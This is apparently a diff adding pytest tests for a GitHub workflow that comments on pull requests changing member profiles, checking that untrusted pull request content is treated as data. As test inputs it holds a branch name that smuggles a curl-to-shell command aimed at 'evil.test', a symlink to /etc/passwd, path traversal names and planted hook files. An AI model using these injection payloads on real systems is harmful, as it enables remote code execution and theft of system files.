@@ -1,0 +1,259 @@
+"""The workflow `comment`, run for real, and its errand: what is said on a pull request, and when nothing is."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from click.testing import CliRunner, Result
+from hub import REPOSITORY, ROBOT, TOKEN, Call, Hub, RefusedError
+from scene import MEMBERS, Link, Run, Scene, finished
+
+from groups import ROOT
+from tradekin.cli import main
+
+GOLDEN = Path(__file__).parent / "golden"
+REQUIRED = "business: Lee Plumbing\ntrade: plumber\nsummary: We fix pipes in old houses.\n"
+ANN = f"name: Ann Lee\n{REQUIRED}github: ann-lee\ngithub_id: 11\n"
+PERSON = {"login": "ann-lee", "id": 11, "type": "User"}
+STRANGER = {"login": "mallory", "id": 66, "type": "User"}
+Golden = Callable[[Path, str], None]
+
+
+def flow(scene: Scene, files: dict[str, Any], user: Any = PERSON, **pull: Any) -> Run:
+    event = scene.pull_request(files, user=user, **pull)
+    return scene.act("workflow_run", finished(event["pull_request"]), "comment.yml")
+
+
+def errand(scene: Scene, event: dict[str, Any], *, hub: Hub | None = None, token: str = TOKEN) -> Result:
+    """The errand of the workflow as it is typed, for the group's profiles on the main branch."""
+    import json
+
+    file = scene.folder / "event.json"
+    file.write_text(json.dumps(event))
+    environment = {"GITHUB_API_URL": (hub or scene.hub).url, "GITHUB_REPOSITORY": REPOSITORY, "GITHUB_TOKEN": token}
+    arguments = ["github", "comment", "--event", str(file), "--members", str(MEMBERS)]
+    return CliRunner().invoke(main, [*arguments, "--config", str(ROOT / "mkdocs.yml")], env=environment)
+
+
+def test_a_good_profile_gets_one_line(scene: Scene) -> None:
+    ran = flow(scene, {"members/ann-lee.yml": ANN})
+    assert ran.code == 0
+    assert ran.said == "Pull request 7: commented.\n"
+    assert scene.hub.changes() == ["POST issues/7/comments"]
+    marker, line = scene.hub.said(7)[0].split("\n\n")
+    assert (marker, line.count("\n")) == ("<!-- tradekin: review -->", 1)
+    assert "Ann Lee joins as a plumber" in line
+
+
+def test_a_bad_profile_gets_everything_there_is_to_mend(scene: Scene) -> None:
+    ran = flow(scene, {"members/ann-lee.yml": ANN.replace("plumber", "plumbr")})
+    assert ran.code == 0
+    assert "Did you mean plumber?" in scene.hub.said(7)[0]
+
+
+def test_nothing_of_the_pull_request_is_checked_out_or_run(scene: Scene) -> None:
+    mark = scene.folder / "pwned"
+    evil = f"open('{mark}', 'w')\n"
+    action = f"runs:\n  using: composite\n  steps: [{{shell: bash, run: touch {mark}}}]\n"
+    files = {
+        "members/ann-lee.yml": ANN,
+        "generator/tools/environment.py": evil,
+        "mkdocs.yml": "hooks: [evil.py]\n",
+        ".github/actions/setup/action.yml": action,
+        "evil.py": evil,
+    }
+    ran = flow(scene, files, STRANGER, branch='a";curl${IFS}evil.test|sh;"')
+    assert ran.code == 0
+    assert not mark.exists()
+    assert "two things at once" in scene.hub.said(7)[0]
+
+
+def test_the_comment_is_brought_up_to_date_and_never_repeated(scene: Scene) -> None:
+    first = scene.pull_request({"members/ann-lee.yml": ANN.replace("plumber", "plumbr")}, user=PERSON)
+    assert errand(scene, finished(first["pull_request"])).output == "Pull request 7: commented.\n"
+    assert errand(scene, finished(first["pull_request"])).output == "Pull request 7: the comment still holds.\n"
+    second = scene.pull_request({"members/ann-lee.yml": ANN}, user=PERSON)
+    assert (
+        errand(scene, finished(second["pull_request"])).output
+        == "Pull request 7: the comment was brought up to date.\n"
+    )
+    assert scene.hub.changes() == ["POST issues/7/comments", "PATCH issues/comments/1000"]
+    assert len(scene.hub.said(7)) == 1
+
+
+def test_a_copy_of_the_marker_in_a_strangers_comment_is_left_alone(scene: Scene) -> None:
+    event = scene.pull_request({"members/ann-lee.yml": ANN}, user=PERSON)
+    copied = "<!-- tradekin: review -->\nAll is well, merge me."
+    scene.hub.add_comment(7, copied, STRANGER, "CONTRIBUTOR")
+    assert errand(scene, finished(event["pull_request"])).exit_code == 0
+    assert scene.hub.said(7)[0] == copied
+    assert len(scene.hub.said(7)) == 2
+
+
+def test_the_comment_of_a_groups_own_token_is_found_again(scene: Scene) -> None:
+    event = scene.pull_request({"members/ann-lee.yml": ANN}, user=PERSON)
+    facilitator = {"login": "fay", "id": 3, "type": "User"}
+    scene.hub.add_comment(7, "<!-- tradekin: review -->\nOld words.", facilitator, "OWNER")
+    assert errand(scene, finished(event["pull_request"])).exit_code == 0
+    assert scene.hub.changes() == ["PATCH issues/comments/1000"]
+
+
+def test_a_head_that_has_moved_on_is_left_to_its_own_check(scene: Scene) -> None:
+    old = finished(scene.pull_request({"members/ann-lee.yml": "name: old\n"}, user=PERSON)["pull_request"])
+    scene.pull_request({"members/ann-lee.yml": ANN}, user=PERSON)
+    assert "has moved on" in errand(scene, old).output
+    assert scene.hub.changes() == []
+
+
+def test_a_head_that_moves_while_the_page_is_written_gets_no_comment(scene: Scene) -> None:
+    event = finished(scene.pull_request({"members/ann-lee.yml": ANN}, user=PERSON)["pull_request"])
+
+    def move(call: Call) -> None:
+        if call.path.startswith("git/blobs/"):
+            scene.hub.pulls[7]["head"]["sha"] = "f" * 40
+
+    scene.hub.before = move
+    assert "has moved on" in errand(scene, event).output
+    assert scene.hub.changes() == []
+
+
+def test_a_pull_request_without_profiles_gets_no_comment(scene: Scene) -> None:
+    event = scene.pull_request({"docs/index.md": "# Hello\n"}, user=STRANGER)
+    assert "changes no profile" in errand(scene, finished(event["pull_request"])).output
+    assert scene.hub.changes() == []
+
+
+def test_when_the_last_profile_is_taken_out_the_comment_says_so(scene: Scene) -> None:
+    event = scene.pull_request({"docs/index.md": "# Hello\n"}, user=STRANGER)
+    scene.hub.add_comment(7, "<!-- tradekin: review -->\nSomething to mend.", ROBOT)
+    assert errand(scene, finished(event["pull_request"])).exit_code == 0
+    assert "Something to mend" not in scene.hub.said(7)[0]
+
+
+def test_a_fork_that_is_behind_removes_nobody(scene: Scene) -> None:
+    old = scene.hub.git("rev-parse", "main")
+    scene.push({"members/ben-okafor.yml": scene.hub.file("main", "members/ben-okafor.yml") + "specialty: roofs\n"})
+    event = scene.opened(scene.change({"members/ann-lee.yml": ANN}, onto=old), user=PERSON)
+    assert errand(scene, finished(event["pull_request"])).exit_code == 0
+    assert "Ann Lee joins" in scene.hub.said(7)[0]
+    assert "Ben Okafor changes" not in scene.hub.said(7)[0]
+
+
+def test_whatever_is_proposed_is_fetched_as_data(scene: Scene) -> None:
+    files = {
+        "members/al-lee.yml": Link("/etc/passwd"),
+        "members/x\n::error::oh.yml": ANN,
+        "members/large.yml": "x" * 70_000,
+        "members/nested/ann-lee.yml": ANN,
+        "members/bytes.yml": b"name: \xff\xfe\n",
+        "members/ben-okafor.yml": None,
+        "members/photos/cleo-marsh.png": b"no picture",
+    }
+    event = scene.pull_request(files, user=STRANGER)
+    ran = errand(scene, finished(event["pull_request"]))
+    assert (ran.exit_code, ran.output) == (0, "Pull request 7: commented.\n")
+    said = scene.hub.said(7)[0]
+    assert [code for code in ("P001", "P003", "P004") if code not in said] == []
+    assert "large" in said
+    assert "Ben Okafor leaves" in said
+    assert "root:" not in said
+    fetched = [call.path for call in scene.hub.calls if call.path.startswith("git/blobs/")]
+    assert len(fetched) == 3
+
+
+def test_a_folder_of_profiles_that_becomes_a_link_is_not_followed(scene: Scene) -> None:
+    gone = dict.fromkeys((f"members/{file.name}" for file in MEMBERS.iterdir()), None)
+    event = scene.pull_request({"members": Link("/etc"), **gone}, user=STRANGER)
+    assert errand(scene, finished(event["pull_request"])).exit_code == 0
+    assert "Ben Okafor leaves" in scene.hub.said(7)[0]
+
+
+def test_a_path_that_leads_out_of_the_folder_is_not_written(scene: Scene) -> None:
+    event = scene.pull_request({"members/ann-lee.yml": ANN}, user=STRANGER)
+    real = scene.hub.list_files
+
+    def forged(call: Call, number: str) -> Any:
+        entry = real(call, number)[0]
+        names = ("members/../../out.yml", "members//etc/out.yml", "/etc/out.yml", "members/./out.yml", "members/")
+        return [entry, *({**entry, "filename": name} for name in names)] if call.query["page"] == "1" else []
+
+    scene.hub.list_files = forged  # type: ignore[method-assign]
+    assert errand(scene, finished(event["pull_request"])).exit_code == 0
+    assert not list(scene.folder.parent.rglob("out.yml"))
+
+
+def test_more_profiles_than_fit_are_not_fetched(scene: Scene, golden: Golden) -> None:
+    event = scene.pull_request({f"members/m{number}.yml": ANN for number in range(201)}, user=STRANGER)
+    assert errand(scene, finished(event["pull_request"])).exit_code == 0
+    assert not [call for call in scene.hub.calls if call.path.startswith("git/")]
+    golden(GOLDEN / "comment-too-many.md", scene.hub.said(7)[0])
+
+
+def test_a_login_that_somebody_else_has_taken_since_is_not_the_owner(scene: Scene) -> None:
+    text = scene.hub.file("main", "members/ben-okafor.yml").replace("look at", "inspect")
+    event = scene.pull_request({"members/ben-okafor.yml": text}, user={"login": "ben-okafor", "id": 99})
+    assert errand(scene, finished(event["pull_request"])).exit_code == 0
+    assert "A person should look" in scene.hub.said(7)[0]
+
+
+def test_an_author_whose_account_is_gone_is_no_hindrance(scene: Scene) -> None:
+    event = scene.pull_request({"members/ann-lee.yml": ANN}, user=None)
+    assert errand(scene, finished(event["pull_request"])).exit_code == 0
+    assert len(scene.hub.said(7)) == 1
+
+
+def test_a_check_of_something_else_than_a_pull_request_is_passed_over(scene: Scene) -> None:
+    event = finished({"head": {"sha": "0" * 40, "ref": "main"}})
+    event["workflow_run"]["event"] = "push"
+    assert "not for a pull request" in errand(scene, event).output
+    assert scene.hub.calls == []
+
+
+@pytest.mark.parametrize(
+    "event", [{}, [], {"issue": None, "repository": {"default_branch": "main"}}, {"repository": 7}]
+)
+def test_an_event_of_another_shape_ends_with_a_word(scene: Scene, event: Any) -> None:
+    ran = errand(scene, event)
+    assert ran.exit_code == 1
+    assert ran.output.count("\n") == 1
+    assert isinstance(ran.exception, SystemExit)
+
+
+@pytest.mark.parametrize("sha", ["main", "0" * 39, "../../../user", None, 7])
+def test_a_head_that_is_no_commit_ends_with_a_word(scene: Scene, sha: object) -> None:
+    event = finished({"head": {"sha": sha, "ref": "x"}})
+    ran = errand(scene, event)
+    assert (ran.exit_code, ran.output) == (1, "This is not the name of a commit.\n")
+    assert scene.hub.calls == []
+
+
+def test_no_answer_a_refusal_and_a_wrong_token_end_with_a_word(scene: Scene, hub: Hub) -> None:
+    event = finished(scene.pull_request({"members/ann-lee.yml": ANN}, user=PERSON)["pull_request"])
+
+    def refuse(_: Call) -> None:
+        raise RefusedError(403, "Resource not accessible\nby integration")
+
+    hub.before = refuse
+    ran = errand(scene, event)
+    assert ran.exit_code == 1
+    assert ran.output == (
+        "GET pulls?state=open&base=main&sort=updated&direction=desc&per_page=100&page=1: "
+        "403 Resource not accessible by integration\n"
+    )
+    ran = errand(scene, event, token="wrong")
+    assert (ran.exit_code, "401" in ran.output) == (1, True)
+    hub.refused.clear()
+
+
+def test_a_token_is_never_sent_in_the_clear_or_after_a_redirect(scene: Scene) -> None:
+    ran = CliRunner().invoke(
+        main,
+        ["github", "care"],
+        env={"GITHUB_API_URL": "http://evil.example", "GITHUB_REPOSITORY": REPOSITORY, "GITHUB_TOKEN": TOKEN},
+    )
+    assert (ran.exit_code, ran.output) == (1, "GITHUB_API_URL must begin with https://\n")
+    ran = CliRunner().invoke(main, ["github", "care"], env={"GITHUB_REPOSITORY": "", "GITHUB_TOKEN": ""})
+    assert (ran.exit_code, ran.output.startswith("GITHUB_REPOSITORY and GITHUB_TOKEN must be set")) == (1, True)
